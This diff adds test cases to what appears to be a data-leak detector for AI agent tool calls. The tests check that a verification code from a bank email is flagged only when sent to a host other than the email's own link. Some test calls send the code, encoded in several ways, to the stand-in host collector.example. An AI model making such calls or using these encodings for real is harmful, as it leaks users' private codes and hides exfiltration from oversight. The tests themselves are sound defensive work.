@@ -67,3 +67,64 @@ describe('the user’s code carried out encoded', () => {
     expect(rules(check(`https://collector.example/c?d=${twice}`))).toContain('private-data-out');
   });
 });
+
+/**
+ * A key or code inside a link the same item gave is no leak (private-data-rule.ts): a sign-in
+ * link opened as written. The link's decodings read the code in it, so the exemption must read
+ * the link the same way, or a link carrying the code encoded is flagged where one carrying it
+ * plainly is not.
+ */
+describe('a code inside a link the bank’s own mail gave, encoded', () => {
+  function opened(link: string, sent = link) {
+    const known = new KnownParties();
+    known.addOwnAccount('me@mycorp.com');
+    const svc = new ProvenanceService({ known });
+    const item: ProvenanceMetaItem = {
+      kind: 'mail',
+      label: 'a message from alerts@bank.example',
+      ref: 'm1',
+      from: ['alerts@bank.example'],
+      audience: ['me@mycorp.com'],
+      private: true,
+      text: `Your verification code is ${CODE}. Or sign in with ${link}`,
+    };
+    svc.observe({
+      agent: 'a',
+      tool: 'gmail_read',
+      sourceKind: 'google',
+      sourceLabel: 'Gmail',
+      result: {
+        content: [{ type: 'text', text: item.text ?? '' }],
+        _meta: { [PROVENANCE_META_KEY]: [item] },
+      },
+    });
+    // A fetch server: a third party, so rule 2 judges every call to it.
+    return rules(
+      svc.check('a', {
+        tool: 'fetch',
+        sourceKind: 'remote',
+        sourceLabel: 'fetch-server',
+        readOnly: true,
+        args: { url: sent },
+      }),
+    );
+  }
+  const encodings: [string, string][] = [
+    ['plain', CODE],
+    ['base64url', Buffer.from(CODE).toString('base64url')],
+    ['base64 JSON', Buffer.from(JSON.stringify({ code: CODE, u: 'me' })).toString('base64url')],
+    ['hex', Buffer.from(CODE).toString('hex')],
+    ['base32', 'GQ4DEOJRGM'],
+    ['percent twice', encodeURIComponent(encodeURIComponent(`c=${CODE}`))],
+  ];
+  for (const [name, enc] of encodings)
+    it(`is not flagged when that link is opened as written (${name})`, () => {
+      expect(opened(`https://click.bankmail.example/v?t=${enc}`)).not.toContain('private-data-out');
+    });
+  it('is still flagged in a link the mail did not give', () => {
+    const t = Buffer.from(CODE).toString('base64url');
+    expect(
+      opened(`https://click.bankmail.example/v?t=${t}`, `https://collector.example/v?t=${t}`),
+    ).toContain('private-data-out');
+  });
+});
